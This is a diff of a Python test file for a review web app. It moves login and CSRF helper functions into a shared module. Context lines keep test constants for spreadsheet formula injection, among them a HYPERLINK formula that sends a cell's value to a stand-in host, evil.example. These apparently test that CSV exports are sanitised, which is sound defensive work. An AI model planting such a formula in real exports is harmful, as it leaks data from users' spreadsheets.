@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import re
 
 import pandas as pd
 import pytest
@@ -16,9 +15,9 @@ from pipelines.accounts import hash_password
 from pipelines.settings import VigilSettings
 from pipelines.store import ResultsStore
 from review import create_app
+from tests.review_client import PASSWORD, csrf_of, try_login
 from tests.review_fixtures import add_flagged_run
 
-PASSWORD = "correct horse battery"
 FORMULA_ID = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
 FORMULA_NOTE = "@SUM(1+1)"
 
@@ -56,23 +55,11 @@ def client_at(app, address: str, **kwargs) -> TestClient:
     return TestClient(app, follow_redirects=False, client=(address, 50000), **kwargs)
 
 
-def try_login(client: TestClient, name: str, password: str):
-    page = client.get("/login")
-    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
-    return client.post(
-        "/login", data={"username": name, "password": password, "csrf_token": csrf, "next": "/"}
-    )
-
-
 def logged_in(app, name: str, address: str = "10.0.0.1") -> TestClient:
     client = client_at(app, address)
     response = try_login(client, name, PASSWORD)
     assert response.status_code == 303 and response.headers["location"] == "/", response.text
     return client
-
-
-def csrf_of(client: TestClient) -> str:
-    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/queue").text).group(1)
 
 
 # -- exports --------------------------------------------------------------------------
